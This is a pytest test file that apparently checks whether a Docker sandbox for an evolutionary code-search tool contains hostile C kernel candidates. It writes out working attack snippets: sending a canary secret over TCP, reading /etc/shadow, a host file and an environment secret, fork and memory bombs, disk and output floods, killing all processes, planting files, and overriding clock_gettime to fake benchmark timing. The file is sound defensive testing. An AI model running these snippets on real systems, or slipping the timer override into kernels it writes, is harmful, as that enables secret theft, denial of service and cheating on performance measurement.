"""Hostile candidates against the Docker sandbox, all in one run.

Each attack is a C kernel that tries one escape. An attack that is stopped gives up
loudly (abort with the reason on stderr), so its candidate gets a failure status and
feedback; an attack that got through would compute the right answer and pass, which the
assertions below would catch. After the run the host is checked too: nothing reached its
listener, the secret it held is nowhere in the store, and the run finished.
"""

from __future__ import annotations

import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from evolve.engine import Engine
from evolve.program import Program
from evolve.store import Store
from evolve.taskfile import load_task, make_evaluator
from sandboxes.docker import docker_available
from tests.conftest import CANARY_SECRET as SECRET

pytestmark = [
    pytest.mark.docker,
    pytest.mark.skipif(not docker_available()[0], reason=f"docker: {docker_available()[1]}"),
]

MATMUL = Path(__file__).resolve().parent.parent / "tasks" / "matmul_c"

PRELUDE = """#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
"""

MATMUL_BODY = """
  for (int i = 0; i < n; i++)
    for (int j = 0; j < n; j++) {
      float sum = 0.0f;
      for (int k = 0; k < n; k++) sum += A[i * n + k] * B[k * n + j];
      C[i * n + j] = sum;
    }
"""


def blocked(what: str) -> str:
    return f'{{ fprintf(stderr, "blocked: {what}: %s\\n", strerror(errno)); abort(); }}'


def attacks(port: int, host_file: Path) -> dict[str, tuple[str, str]]:
    """name -> (code that runs first in the kernel, extra top-level code)."""
    return {
        "tcp": (
            f"""int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in to = {{.sin_family = AF_INET, .sin_port = htons({port})}};
  inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
  if (s < 0 || connect(s, (struct sockaddr *)&to, sizeof to) != 0) {blocked("tcp")}
  dprintf(s, "{SECRET}");""",
            "",
        ),
        "dns": (
            f"""struct addrinfo *found;
  if (getaddrinfo("deb.debian.org", "80", NULL, &found) != 0) {blocked("dns")}""",
            "",
        ),
        "host_file": (
            f"""int fd = open("{host_file}", O_RDONLY);
  if (fd < 0) {blocked("host file")}
  char text[64] = {{0}}; read(fd, text, 63); fprintf(stderr, "stole %s", text);""",
            "",
        ),
        "shadow": (
            f"""int fd = open("/etc/shadow", O_RDONLY);
  if (fd < 0) {blocked("shadow")}""",
            "",
        ),
        "env_secret": (
            f"""const char *secret = getenv("EVOLVE_CANARY_SECRET");
  if (!secret) {{ errno = ENOENT; {blocked("env")} }}
  fprintf(stderr, "secret=%s", secret);""",
            "",
        ),
        "fork_bomb": ("for (;;) fork();", ""),
        "memory_bomb": (
            f"""size_t size = 50UL << 30; char *p = malloc(size);
  if (!p) {blocked("malloc 50 GB")}
  for (size_t i = 0; i < size; i += 4096) p[i] = 1;""",
            "",
        ),
        "stdout_flood": (
            """static char line[1 << 16]; memset(line, 'x', sizeof line);
  for (long i = 0; i < (10L << 30) / (long)sizeof line; i++) fwrite(line, 1, sizeof line, stdout);
  abort();""",
            "",
        ),
        "disk_flood": (
            f"""static char block[1 << 20]; int fd = open("fill", O_WRONLY | O_CREAT, 0600);
  for (long i = 0; i < 10240; i++)
    if (write(fd, block, sizeof block) != (ssize_t)sizeof block) {blocked("disk")}""",
            "",
        ),
        "sleep_forever": ("for (;;) pause();", ""),
        "kill_all": ("kill(-1, SIGKILL);", ""),
        "plant": (
            """int fd = open("../planted", O_WRONLY | O_CREAT, 0644);
  if (fd < 0) fd = open("/work/planted", O_WRONLY | O_CREAT, 0644);
  if (fd < 0) fd = open("/tmp/planted", O_WRONLY | O_CREAT, 0644);
  if (fd >= 0) write(fd, "x", 1);
  abort();""",
            "",
        ),
        "timer_override": (
            "",
            "int clock_gettime(clockid_t id, struct timespec *t) "
            "{ t->tv_sec = 0; t->tv_nsec = 0; return 0; }",
        ),
    }


READER = """  if (access("../planted", F_OK) == 0 || access("/work/planted", F_OK) == 0 ||
      access("/tmp/planted", F_OK) == 0 || access("planted", F_OK) == 0) {
    fprintf(stderr, "found a file planted by an earlier job\\n"); abort();
  }"""


def kernel(first: str, top: str) -> Program:
    source = (
        f"{PRELUDE}// EVOLVE-BLOCK-START\n// cflags: -O2\n{top}\n"
        "void matmul(int n, const float *restrict A, const float *restrict B,\n"
        "            float *restrict C) {\n"
        f"  {first}\n{MATMUL_BODY}}}\n// EVOLVE-BLOCK-END\n"
    )
    return Program({"seed.c": source})


TASK = """name: adversarial
seed: seed.c
evaluator:
  name: c_kernel
  params: {harness: harness.c, reference: reference.py, sizes: {n: 32}, reps: 5}
objectives: [{name: gflops, direction: maximize}]
search: {islands: 1}
budget: {candidates: BUDGET}
sandbox: {backend: docker, timeout_s: 6, memory_mb: 512, max_processes: 64}
"""


@pytest.fixture
def host_listener() -> tuple[int, list[bytes]]:
    """A TCP server on the host's loopback that records anything that reaches it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except TimeoutError:
                continue
            received.append(connection.recv(1024) or b"<connected>")
            connection.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


@pytest.mark.usefixtures("ray_session")
def test_every_attack_is_contained_and_the_run_goes_on(
    tmp_path: Path, host_listener: tuple[int, list[bytes]]
) -> None:
    port, received = host_listener
    host_file = tmp_path / "host-only.txt"
    host_file.write_text("host-only-content")

    cases = attacks(port, host_file)
    task_dir = tmp_path / "task"
    task_dir.mkdir()
    for name in ("harness.c", "reference.py"):
        shutil.copy(MATMUL / name, task_dir / name)
    seed = kernel("", "")
    (task_dir / "seed.c").write_text(seed.files["seed.c"])
    budget = 1 + len(cases) + 1
    (task_dir / "task.yaml").write_text(TASK.replace("BUDGET", str(budget)))
    task = load_task(task_dir / "task.yaml")

    store_url = f"sqlite:///{tmp_path / 'evolve.db'}"
    store = Store(store_url)
    run = store.create_run(
        "attack", task_path=str(task.path), task_yaml=task.text, seed=1, settings={}
    )
    ids: dict[str, int] = {}
    for name, program in [
        ("seed", seed),
        *((n, kernel(*code)) for n, code in cases.items()),
        ("reader", kernel(READER, "")),
    ]:
        added = store.add_candidate(
            "attack", program, parent_ids=[], island=0, generation=0, mutation={"attack": name}
        )
        assert added is not None
        ids[name] = added.id

    outcome = Engine(
        task, store, run, make_evaluator(task), workers=1, results_dir=tmp_path / "results"
    ).run()

    assert outcome.reason.startswith("candidate budget reached")
    assert store.pending_candidates("attack") == []
    status = {name: store.candidate(i).status for name, i in ids.items()}  # type: ignore[union-attr]
    feedback = {name: store.evaluations(i)[0].feedback for name, i in ids.items()}
    assert status["seed"] == "ok" and status["reader"] == "ok", feedback["reader"]
    for name in cases:
        assert status[name] != "ok", f"{name} was not stopped: {feedback[name]}"
        assert feedback[name].strip(), f"{name} failed without feedback"
    for name in ("tcp", "dns", "host_file", "shadow", "env_secret", "memory_bomb", "disk_flood"):
        assert "blocked" in feedback[name] or "signal" in feedback[name], (name, feedback[name])
    assert (
        status["timer_override"] == "build_failed" and "clock_gettime" in feedback["timer_override"]
    )
    assert status["sleep_forever"] == "timeout" and status["fork_bomb"] == "timeout"

    assert received == [], "a candidate reached a service on the host"
    everything = " ".join(
        f"{e.feedback} {e.artifacts} {e.sandbox}" for e in store.run_evaluations("attack")
    )
    assert SECRET not in everything and "host-only-content" not in everything
    assert not (tmp_path / "planted").exists()

    # Counters: the seed was measured twice in this run; simulated counts are identical.
    seed_runs = [e for e in store.evaluations(ids["seed"]) if e.status == "ok"]
    assert [e.kind for e in seed_runs] == ["evaluate", "remeasure"]
    first, second = (e.counters["instructions"] for e in seed_runs)
    if first.source == "cachegrind":
        assert first == second, "valgrind's instruction counts must be deterministic"
    shown = subprocess.run(
        [sys.executable, "-m", "evolve", "show", str(ids["seed"]), "--db", store_url],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert shown.returncode == 0, shown.stderr
    assert "instructions" in shown.stdout and first.source in shown.stdout
